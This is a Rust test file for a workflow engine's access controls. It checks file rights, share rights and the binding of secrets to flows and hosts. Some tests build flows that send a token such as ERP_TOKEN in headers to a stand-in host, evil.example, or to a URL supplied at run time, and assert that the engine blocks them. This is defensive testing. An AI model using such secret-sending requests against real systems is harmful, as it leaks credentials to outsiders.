//! Rights of flows: a version acts with its accepted rights, and not with those of its author or of
//! the person who starts it.

use crate::harness::{ERP_TOKEN, HOOK_SECRET, Harness};
use axum::http::StatusCode;
use gatefold::base::FileRef;
use gatefold::base::id::RunId;
use gatefold::base::secret_rules::{SecretBinding, SecretRules};
use gatefold::host::Policy;
use gatefold::host::runs::{FilesFrom, StartRun};
use gatefold::server::signature::sign;
use gatefold::space::Role;
use secrecy::SecretString;
use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

/// A complete file reference, as an author who knows every field could write it.
fn written(file: &FileRef) -> String {
    json!(file).to_string()
}

fn flow(before: &str, steps: &str) -> String {
    format!("flow: reach\nversion: 1.0.0\n{before}\nsteps:\n{steps}")
}

/// Runs until nothing more happens without time passing.
async fn settled(harness: &Harness) {
    harness.host.come_to_rest(Duration::from_secs(5)).await.unwrap();
}

async fn view(harness: &Harness, run: &RunId) -> Value {
    settled(harness).await;
    harness
        .get(&format!("/api/v1/runs/{run}"))
        .by("admin")
        .send()
        .await
        .json()
}

/// The error of the run's incident.
async fn incident(harness: &Harness, run: &RunId) -> String {
    let view = view(harness, run).await;
    view["incidents"][0]["error"]
        .as_str()
        .unwrap_or_else(|| panic!("{view}"))
        .to_owned()
}

/// Steps with every action of the file space that takes a file, and with tasks about a file.
fn uses_of(file: &str) -> Vec<String> {
    vec![
        format!(
            "  - {{ id: x, uses: file360.create_share, with: {{ name: X, files: [{file}], expires_in: 3 days }} }}\n"
        ),
        format!("  - {{ id: x, uses: file360.put_file, with: {{ folder: /mine, name: x, file: {file} }} }}\n"),
        format!("  - {{ id: x, uses: file360.publish, with: {{ file: {file}, to: /mine }} }}\n"),
    ]
}

#[tokio::test(start_paused = true)]
async fn a_file_that_only_the_text_names_is_not_used() {
    for at in 0..3 {
        let harness = Harness::new().await;
        let secret = harness.put("salaries.pdf", "secret").await;
        let text = flow("", &uses_of(&written(&secret))[at]);
        harness.deploy(&text).await;
        let run = harness.begin("reach", json!({})).await;
        let why = incident(&harness, &run).await;
        assert!(why.contains("salaries.pdf was not given to this run"), "{text}: {why}");
    }
}

#[tokio::test(start_paused = true)]
async fn a_file_that_data_names_is_not_used() {
    for at in 0..3 {
        let harness = Harness::new().await;
        let secret = harness.put("salaries.pdf", "secret").await;
        let text = flow(
            "inputs: { told: { type: object } }",
            &uses_of("\"${{ inputs.told }}\"")[at],
        );
        harness.deploy(&text).await;
        let run = harness.begin("reach", json!({ "told": secret })).await;
        let why = incident(&harness, &run).await;
        assert!(why.contains("salaries.pdf was not given to this run"), "{text}: {why}");
    }
}

#[tokio::test(start_paused = true)]
async fn nobody_is_asked_about_a_file_that_the_run_does_not_have() {
    let harness = Harness::new().await;
    let secret = harness.put("salaries.pdf", "secret").await;
    let text = flow(
        "inputs: { told: { type: object } }",
        "  - id: x\n    approve: { document: \"${{ inputs.told }}\", by: [user:author], decisions: [ok, no] }\n    \
         deadline: { due: 3 days }\n    outcomes: { no: { end: no }, expired: { end: late } }\n",
    );
    harness.deploy(&text).await;
    let run = harness.begin("reach", json!({ "told": secret })).await;
    let why = incident(&harness, &run).await;
    assert!(why.contains("salaries.pdf was not given to this run"), "{why}");
    let read = harness
        .get(&format!("/api/v1/files/{}", secret.id))
        .by("author")
        .send()
        .await;
    assert_eq!(read.status, StatusCode::NOT_FOUND, "to be asked would open the file");
}

#[tokio::test(start_paused = true)]
async fn a_file_that_was_given_or_made_is_used() {
    let harness = Harness::new().await;
    let given = harness.put("report.pdf", "report").await;
    let text = flow(
        "inputs: { doc: { type: file } }",
        "  - { id: copy, uses: file360.put_file, with: { folder: /mine, name: copy.pdf, file: \"${{ inputs.doc }}\" } }\n  \
         - { id: all, uses: file360.list_files, with: { folder: /mine } }\n  \
         - { id: out, uses: file360.publish, with: { file: \"${{ steps.copy.file }}\", to: /out } }\n  \
         - { id: more, uses: file360.create_share, with: { name: X, files: \"${{ steps.all.files }}\", expires_in: 3 days } }\n",
    );
    harness.deploy(&text).await;
    let run = harness.begin("reach", json!({ "doc": given.id })).await;
    let view = view(&harness, &run).await;
    assert_eq!(view["outcome"], "completed", "{view}");
}

#[tokio::test(start_paused = true)]
async fn a_person_without_a_right_to_a_file_cannot_give_it() {
    let harness = Harness::new().await;
    let text = flow(
        "inputs: { doc: { type: file } }",
        "  - { id: x, uses: data.set, with: { value: 1 } }\n",
    );
    harness.deploy(&text).await;
    let other = harness.put("salaries.pdf", "secret").await;
    let start = |file: &str| StartRun {
        flow: "reach".to_owned(),
        inputs: json!({ "doc": file }),
        initiator: "user:anna".to_owned(),
        trigger: "manual".to_owned(),
        cause: None,
        files_from: FilesFrom::Initiator,
        once: None,
        via: None,
    };
    let refused = harness.host.start_run(start(&other.id)).await.unwrap_err();
    assert!(
        refused
            .to_string()
            .contains("names a file that does not exist, or that you may not open"),
        "{refused}"
    );
    let mine = harness
        .host
        .put_file("user:anna", "/in", "mine.pdf", b"mine".as_slice())
        .await
        .unwrap();
    harness.host.start_run(start(&mine.id)).await.unwrap();
}

/// The body of a webhook call, signed.
async fn call(harness: &Harness, body: &Value) -> crate::harness::Answer {
    let body = body.to_string();
    let secret = SecretString::from(HOOK_SECRET);
    let signature = sign(&secret, harness.host.now().as_second(), "reach", None, body.as_bytes());
    let ask = harness
        .post("/api/v1/hooks/reach")
        .header("content-type", "application/json");
    ask.header("gatefold-signature", &signature).body(body).send().await
}

#[tokio::test(start_paused = true)]
async fn a_webhook_names_files_only_where_that_was_accepted() {
    let harness = Harness::new().await;
    let file = harness.put("order.pdf", "order").await;
    let text = flow(
        "on: { webhook: { secret: HOOK_SECRET } }\ninputs: { doc: { type: object, default: {} } }",
        "  - { id: x, uses: file360.create_share, with: { name: X, files: [\"${{ inputs.doc }}\"], expires_in: 3 days } }\n",
    );
    harness.deploy(&text).await;
    let answer = call(&harness, &json!({ "doc": file })).await;
    assert_eq!(answer.status, StatusCode::ACCEPTED, "{}", answer.text());
    let run = RunId(answer.json()["run"].as_str().unwrap().to_owned());
    let why = incident(&harness, &run).await;
    assert!(why.contains("order.pdf was not given to this run"), "{why}");
    let typed = text
        .replace("1.0.0", "1.1.0")
        .replace("type: object, default: {}", "type: file");
    harness.deploy(&typed).await;
    let rights = harness.host.rights_in_force("reach").await.unwrap();
    let told: Vec<String> = rights.0.iter().map(ToString::to_string).collect();
    assert!(
        told.contains(&"use files of the folder: any value given at run time".to_owned()),
        "{told:?}"
    );
    let answer = call(&harness, &json!({ "doc": file.id })).await;
    assert_eq!(answer.status, StatusCode::ACCEPTED, "{}", answer.text());
}

#[tokio::test(start_paused = true)]
async fn an_event_trigger_reads_its_folder_alone() {
    let harness = Harness::new().await;
    let inside = harness
        .host
        .put_file("user:operator", "/hr", "a.pdf", b"a".as_slice())
        .await
        .unwrap();
    let text = flow(
        &format!(
            "on: {{ event: {{ type: crm.signed, where: \"event.folder == '/in'\", inputs: {{ doc: {} }} }} }}\n\
             inputs: {{ doc: {{ type: file }} }}",
            inside.id
        ),
        "  - { id: x, uses: data.set, with: { value: 1 } }\n",
    );
    harness.deploy(&text).await;
    let event = json!({ "id": "1", "type": "crm.signed", "data": { "folder": "/in" } });
    let answer = harness.post("/api/v1/events").by("operator").json(&event).send().await;
    assert_eq!(answer.status, StatusCode::ACCEPTED, "{}", answer.text());
    settled(&harness).await;
    let runs = harness.get("/api/v1/runs").by("admin").send().await.json();
    assert_eq!(
        runs["items"],
        json!([]),
        "a file of another folder, written into the trigger"
    );
}

#[tokio::test(start_paused = true)]
async fn a_share_of_another_run_is_not_changed() {
    let harness = Harness::new().await;
    let link = harness.share(Role::View).await;
    for (at, with) in [
        "uses: file360.set_permissions, with: { share: SHARE, to: role:legal, role: download }",
        "uses: file360.update_share, with: { share: SHARE, name: Mine }",
        "uses: file360.add_comment, with: { share: SHARE, text: Hello }",
        "uses: file360.list_files, with: { share: SHARE }",
        "uses: file360.revoke_share, with: { share: SHARE }",
    ]
    .into_iter()
    .enumerate()
    {
        let step = with.replace("SHARE", "\"${{ steps.made.value }}\"");
        let text = flow(
            "",
            &format!(
                "  - {{ id: made, uses: data.set, with: {{ value: {} }} }}\n  - {{ id: x, {step} }}\n",
                link.share
            ),
        );
        let text = text.replace("flow: reach", &format!("flow: reach-{at}"));
        harness.deploy(&text).await;
        let run = harness.begin(&format!("reach-{at}"), json!({})).await;
        // the rights in its text count as accepted: the value of a step that computes may be any
        // share
        let view = view(&harness, &run).await;
        assert_eq!(view["outcome"], "completed", "{with}: {view}");
        let rights = harness.host.rights_in_force(&format!("reach-{at}")).await.unwrap();
        let told: Vec<String> = rights.0.iter().map(ToString::to_string).collect();
        assert_eq!(told, ["change shares and workspaces that other runs made"], "{with}");
    }
}

fn bound(name: &str, binding: SecretBinding) -> Policy {
    Policy {
        secrets: SecretRules {
            bindings: BTreeMap::from([(name.to_owned(), binding)]),
            reserved: BTreeSet::from(["SMTP_PASSWORD".to_owned()]),
        },
        ..Policy::open()
    }
}

/// Sends a secret to a host.
fn sending(secret: &str, url: &str) -> String {
    flow(
        "inputs: { url: { type: text, default: \"http://127.0.0.1:9/\" } }",
        &format!(
            "  - {{ id: x, uses: http.request, with: {{ url: \"{url}\", headers: {{ X: \"${{{{ secrets.{secret} }}}}\" }} }} }}\n"
        ),
    )
}

#[tokio::test(start_paused = true)]
async fn a_flow_outside_the_binding_of_a_secret_is_not_deployed() {
    let elsewhere = SecretBinding {
        flows: Some(vec!["orders".to_owned()]),
        hosts: Some(vec!["erp.example".to_owned()]),
    };
    let harness = Harness::with_policy(bound("ERP_TOKEN", elsewhere)).await;
    for (text, why) in [
        (
            sending("ERP_TOKEN", "https://erp.example/"),
            "flow reach may not use the secret ERP_TOKEN",
        ),
        (
            sending("ERP_TOKEN", "https://evil.example/").replace("flow: reach", "flow: orders"),
            "the secret ERP_TOKEN may not be sent to evil.example",
        ),
        (
            sending("SMTP_PASSWORD", "https://erp.example/"),
            "belongs to the server itself",
        ),
        (
            flow(
                "on: { webhook: { secret: SMTP_PASSWORD } }",
                "  - { id: x, uses: data.set, with: { value: 1 } }\n",
            ),
            "belongs to the server itself",
        ),
    ] {
        let answer = harness
            .post("/api/v1/flows")
            .by("admin")
            .text(text.clone())
            .send()
            .await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{text}");
        assert!(answer.text().contains(why), "{}", answer.text());
    }
}

#[tokio::test(start_paused = true)]
async fn a_secret_goes_only_to_the_host_that_it_is_bound_to_whatever_the_data_says() {
    let binding = SecretBinding {
        flows: None,
        hosts: Some(vec!["erp.example".to_owned()]),
    };
    let harness = Harness::with_policy(bound("ERP_TOKEN", binding)).await;
    harness.deploy(&sending("ERP_TOKEN", "${{ inputs.url }}")).await;
    let run = harness
        .begin("reach", json!({ "url": "http://127.0.0.1:9/take" }))
        .await;
    let why = incident(&harness, &run).await;
    assert!(
        why.contains("the secret ERP_TOKEN may not be sent to 127.0.0.1:9"),
        "{why}"
    );
}

#[tokio::test(start_paused = true)]
async fn a_secret_that_is_not_bound_goes_where_it_was_accepted_for() {
    let harness = Harness::new().await;
    harness.deploy(&sending("ERP_TOKEN", "http://127.0.0.1:9/")).await;
    let run = harness.begin("reach", json!({})).await;
    // the call was made: the network refuses it, not the policy
    let why = incident(&harness, &run).await;
    assert!(why.contains("not a public address"), "{why}");
}

#[tokio::test(start_paused = true)]
async fn a_version_that_was_deployed_before_has_the_rights_that_its_text_names() {
    use gatefold::store::Write;
    let harness = Harness::new().await;
    harness.deploy(&sending("ERP_TOKEN", "https://erp.example/")).await;
    let deployment = harness.store.latest_deployment("reach").await.unwrap().unwrap();
    let forget = Write::ForgetKey {
        scope: "accepted_rights".to_owned(),
        key: deployment.hash.clone(),
    };
    harness.commit(vec![forget]).await;
    let upgraded = Harness::at_rest(std::sync::Arc::clone(&harness.store)).await;
    let recorded = upgraded
        .store
        .used_for("accepted_rights", &deployment.hash)
        .await
        .unwrap()
        .unwrap();
    let recorded: Value = serde_json::from_str(&recorded.value).unwrap();
    assert_eq!(recorded["by"], "system:upgrade");
    assert_eq!(recorded["rights"].as_array().unwrap().len(), 2, "{recorded}");
}

/// As SECURITY.md says, the database contains no secrets of flows, no tokens and no passwords of
/// links.
#[tokio::test]
async fn no_secret_is_in_the_database() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("gatefold.db");
    let store = std::sync::Arc::new(gatefold::store::sqlite::SqliteStore::open(&file).unwrap());
    let harness = Harness::at_rest(store).await;
    let text = flow(
        "inputs: { doc: { type: file } }",
        "  - { id: room, uses: file360.create_share, with: { name: X, files: [\"${{ inputs.doc }}\"], expires_in: 3 days, \
         to: rosa@outside.example, password: \"${{ secrets.HOOK_SECRET }}\" } }\n  \
         - { id: x, uses: http.request, with: { url: \"http://127.0.0.1:9/?k=${{ secrets.ERP_TOKEN }}\", \
         headers: { X: \"Bearer ${{ secrets.ERP_TOKEN }}\" }, json: { a: \"${{ secrets.ERP_TOKEN }}\" } } }\n",
    );
    harness.deploy(&text).await;
    let document = harness.put("a.pdf", "a").await;
    let run = harness.begin("reach", json!({ "doc": document.id })).await;
    assert!(incident(&harness, &run).await.contains("not a public address"));
    let shares = harness.host.shares_of(&run).await.unwrap();
    let grant = &shares[0].1[0];
    let mut kept = Vec::new();
    for suffix in ["", "-wal"] {
        kept.extend(std::fs::read(format!("{}{suffix}", file.display())).unwrap_or_default());
    }
    let holds = |what: &str| kept.windows(what.len()).any(|window| window == what.as_bytes());
    assert!(
        holds("rosa@outside.example") && holds("ERP_TOKEN"),
        "these are the right bytes"
    );
    for secret in [
        ERP_TOKEN,
        HOOK_SECRET,
        harness.token("operator"),
        &harness.links.token(&grant.id),
    ] {
        assert!(!holds(secret), "{secret}");
    }
}
